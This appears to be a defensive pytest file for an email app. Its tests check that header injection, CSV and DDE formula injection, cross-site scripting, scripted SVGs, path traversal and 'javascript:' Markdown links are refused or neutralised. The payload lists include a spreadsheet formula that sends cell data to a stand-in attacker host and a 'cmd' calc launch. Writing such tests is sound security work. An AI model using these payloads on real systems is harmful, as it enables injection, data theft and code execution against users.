"""What is typed, uploaded or named so that it breaks out of its place: header, cell, page, drawing, path, link."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from app.cloudflare.contract import check_send
from app.cloudflare.types import Address, Attachment, SendRequest
from app.db import Database
from app.emails.bundle import path_name
from app.emails.bundle_zip import unpack
from app.emails.file_kinds import check_file, clean_name
from app.emails.markdown import markdown_to_html
from app.emails.templates import create_template
from app.people.models import Connection, Person
from app.people.senders import add_sender
from app.recipients.checking import NewRecipient
from app.recipients.spreadsheet_cells import csv_lines
from app.refusals import Refused
from tests.factories import a_draft_send, a_list, a_template_version
from tests.files import a_zip

# Header-like fields: a line end of any kind would begin another header

BREAKS = {
    "CR LF": "a\r\nBcc: evil@example.com",
    "LF": "a\nBcc: evil@example.com",
    "CR": "a\rBcc: evil@example.com",
    "CR LF CR LF": "a\r\n\r\n<script>alert(1)</script>",
    "line separator": "a\u2028Bcc: evil@example.com",
    "paragraph separator": "a\u2029Bcc: evil@example.com",
    "next line": "a\x85Bcc: evil@example.com",
    "vertical tab": "a\x0bBcc: evil@example.com",
    "form feed": "a\x0cBcc: evil@example.com",
    "null": "a\0b",
    "group separator": "a\x1dBcc: evil@example.com",
    "half a character": "a\ud800b",
    "folded": "a\r\n Bcc: evil@example.com",
}
ADA = Address("ada@example.com")


def an_email(**fields: object) -> SendRequest:
    given = {"sender": Address("office@example.com"), "to": (ADA,), "subject": "Hello", "text": "Hi", **fields}
    return SendRequest(**given)  # type: ignore[arg-type]


FIELDS = {
    "subject": lambda value: an_email(subject=value),
    "name of the sender": lambda value: an_email(sender=Address("office@example.com", value)),
    "name of a recipient": lambda value: an_email(to=(Address("ada@example.com", value),)),
    "name of a copy": lambda value: an_email(cc=(Address("bo@example.com", value),)),
    "name of the reply address": lambda value: an_email(reply_to=Address("bo@example.com", value)),
    "address of the sender": lambda value: an_email(sender=Address(f"office@example.com{value}")),
    "address of a recipient": lambda value: an_email(to=(Address(f"{value}@example.com"),)),
    "value of a header": lambda value: an_email(headers=(("X-Reference", value),)),
    "name of a header": lambda value: an_email(headers=((f"X-Reference{value}", "1"),)),
    "name of a file": lambda value: an_email(attachments=(Attachment(value, b"x", "text/plain"),)),
    "type of a file": lambda value: an_email(attachments=(Attachment("a", b"x", f"text/plain{value}"),)),
    "id of a picture": lambda value: an_email(attachments=(Attachment("a", b"x", "image/png", "inline", value),)),
}


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("kind", BREAKS)
def test_no_field_of_a_head_takes_a_line_end(field: str, kind: str) -> None:
    assert check_send(FIELDS[field](BREAKS[kind])), "it would go out"


@pytest.mark.parametrize("kind", [kind for kind in BREAKS if kind != "half a character"])
def test_no_name_of_a_sender_takes_a_line_end(session: Session, actor: Person, kind: str) -> None:
    session.add(Connection(workspace_id=actor.workspace_id, base_url="x", domains=["example.com"]))
    session.flush()
    with pytest.raises(Refused, match="cannot hold line breaks"):
        add_sender(session, actor, local_part="a", domain="example.com", name=BREAKS[kind], reply_to="")


# Cells: no download has a cell that a spreadsheet program runs

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '";=1+1',
    '=1+1";"=2+2',
]
RUNS = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_of_a_download_is_a_formula(cell: str) -> None:
    written = csv_lines([[cell, "next"]])
    (row,) = list(csv.reader(io.StringIO(written, newline="")))
    assert not RUNS.match(row[0])
    assert row[1] == "next"
    assert len(row) == 2


@pytest.fixture
def hostile(database: Database, actor: Person) -> dict[str, int]:
    """A list, a template and a draft with a hostile name, and a person with a formula in every cell."""
    with database.writing() as session:
        people = a_list(
            session,
            actor,
            name="=1+1",
            people=[NewRecipient("ada@example.com", "=1+1", {"city": "@SUM(1)"})],
        )
        version = a_template_version(session, actor, name="=1+1")
        return {"list": people.id, "send": a_draft_send(session, actor, version=version, people=people).id}


@pytest.mark.parametrize("path", ["/lists/{list}/download.csv", "/sends/person/data.csv?email=ada@example.com"])
def test_the_downloads_themselves_hold_no_formula(client: FlaskClient, hostile: dict[str, int], path: str) -> None:
    answer = client.get(path.format(**hostile))
    assert answer.status_code == 200, path
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert any("ada@example.com" in row for row in rows)
    assert [cell for row in rows for cell in row if RUNS.match(cell)] == []
    assert answer.headers["Content-Disposition"].startswith("attachment")


# Pages: whatever a name is, the page shows it as text

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)//-->",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
]
PAGES = ("/", "/templates/", "/lists", "/sends/", "/activity", "/lists/{list}", "/sends/{send}/review", "/sends/new")


@pytest.mark.parametrize("markup", MARKUP)
def test_a_name_is_shown_as_text_on_every_page(
    client: FlaskClient, database: Database, actor: Person, markup: str
) -> None:
    with database.writing() as session:
        people = a_list(session, actor, name=markup, people=[NewRecipient("a@example.com", markup, {"city": markup})])
        version = a_template_version(session, actor, name=markup)
        send = a_draft_send(session, actor, version=version, people=people)
    shown = 0
    for path in PAGES:
        page = client.get(path.format(list=people.id, send=send.id), follow_redirects=True).text
        if "<" in markup or '"' in markup:
            assert markup not in page, path
        assert "49" not in re.findall(r">\s*(49)\s*<", page), "a name was taken for a template"
        shown += html.escape(markup, quote=False) in html.unescape(page) or markup in html.unescape(page)
    assert shown >= 3


# Drawings

DRAWINGS = {
    "a script": "<script>alert(1)</script>",
    "a script of another space": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "a handler": '<rect onclick="alert(1)"/>',
    "a handler in capitals": '<rect ONLOAD="alert(1)"/>',
    "a page": "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><p>x</p></body></foreignObject>",
    "a link that is a program": '<a href="javascript:alert(1)"><text>x</text></a>',
    "such a link in XLink": '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="JaVaScRiPt:alert(1)"/>',
    "such a link with signs in it": '<a href="java&#10;script:alert(1)"/>',
    "a page in a link": '<use href="data:text/html,&lt;script>alert(1)&lt;/script>"/>',
    "an animated handler": '<set attributeName="onmouseover" to="alert(1)"/>',
    "an animated link": '<animate attributeName="href" values="javascript:alert(1)"/>',
    "a frame": '<iframe src="https://evil.example"/>',
    "an embedded thing": '<embed src="x"/>',
    "a handler of SVG 1.2": "<handler type='text/javascript'>alert(1)</handler>",
}


@pytest.mark.parametrize("inside", DRAWINGS.values(), ids=DRAWINGS.keys())
def test_a_drawing_that_is_a_program_is_refused(inside: str) -> None:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
    for content in (drawing, drawing.decode().encode("utf-16")):
        with pytest.raises(Refused, match="is a drawing with a p"):
            check_file("a.svg", content)


@pytest.mark.parametrize(
    "before", ['<?xml-stylesheet href="https://evil.example/x.xsl"?>', '<!DOCTYPE svg [<!ENTITY a "b">]>']
)
def test_a_drawing_put_together_from_elsewhere_is_refused(before: str) -> None:
    with pytest.raises(Refused, match="put together from elsewhere"):
        check_file("a.svg", f'{before}<svg xmlns="http://www.w3.org/2000/svg"/>'.encode())


def test_a_drawing_by_a_drawing_program_is_taken() -> None:
    drawing = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><defs><path id="p" d="M0 0h9"/></defs>'
        '<a href="https://example.com"><use xlink:href="#p"/></a><image href="data:image/png;base64,AAAA"/></svg>'
    )
    assert check_file("a.svg", drawing.encode()) == "image/svg+xml"


# Names of files and paths

NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\win.ini": "win.ini",
    "C:\\autoexec.txt": "autoexec.txt",
    "/etc/passwd": "passwd",
    "a\r\nContent-Type: text/html.txt": "html.txt",
    "a\u2028b.txt": "a b.txt",
    "a\x85b.txt": "a b.txt",
    "a\0b.txt": "ab.txt",
    "invoice\u202efdp.txt": "invoicefdp.txt",
    "invoice\u2066fdp\u2069.txt": "invoicefdp.txt",
    "\u200f\u061ca.txt": "a.txt",
    "quo\"te's.txt": "quo\"te's.txt",
}


@pytest.mark.parametrize(("given", "cleaned"), NAMES.items())
def test_a_file_name_leads_nowhere_and_shows_what_it_is(given: str, cleaned: str) -> None:
    assert clean_name(given) == cleaned
    assert not re.search(r"[/\\\r\n\u2028\u2029\u202e\0]", clean_name(given))


@pytest.mark.parametrize(
    "name", ["../x", "..", "a/b", "a\\b", "CON", "nul.txt", "a\r\nb", "C:x", " a", "a.", "a" * 500, "\0", "x\u202ey"]
)
def test_a_templates_name_makes_one_harmless_part_of_a_path(name: str) -> None:
    part = path_name(name)
    assert not re.search(r'[\x00-\x1f<>:"/\\|?*]', part)
    assert part not in {"", ".", ".."}
    assert len(part.encode()) <= 255


@pytest.mark.parametrize(
    "path",
    ["../x", "templates/../../x", "/etc/passwd", "C:/x", "templates\\..\\x", "templates/./x", "//server/x", "\\\\s\\x"],
)
def test_no_path_in_a_zip_file_leads_out_of_it(path: str) -> None:
    with pytest.raises(Refused, match="would lie outside"):
        unpack(a_zip({path: b"x"}))


@pytest.mark.parametrize(
    "name", ['a"; filename="b.exe', "a\r\nSet-Cookie: x=1", "../../a", "a\u2028b", "ä\u202e.csv", ""]
)
def test_the_name_of_a_download_stays_one_value(
    client: FlaskClient, database: Database, actor: Person, name: str
) -> None:
    with database.writing() as session:
        template = create_template(session, actor, name.replace("\r\n", " ") or "x")
    answer = client.get(f"/templates/{template.id}/download")
    assert answer.status_code == 200
    disposition = answer.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename=\"?[\w.-]+\"?", disposition)
    assert "Set-Cookie" not in answer.headers.get("Content-Type", "")


# Links in Markdown

LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](\x01javascript:alert(1))",
]


@pytest.mark.parametrize("link", LINKS)
def test_markdown_makes_no_link_that_is_a_program(link: str) -> None:
    made = markdown_to_html(link)
    assert not re.search(
        r"(href|src)\s*=\s*[\"']?\s*(?:[\x00-\x20]|%0[0-9a-f])*(javascript|vbscript|data:text|file):", made, re.I
    )


def test_there_are_at_least_forty_payloads() -> None:
    kinds = (BREAKS, FORMULAS, MARKUP, DRAWINGS, NAMES, LINKS)
    assert sum(map(len, kinds)) >= 80
    assert len(BREAKS) * len(FIELDS) >= 100
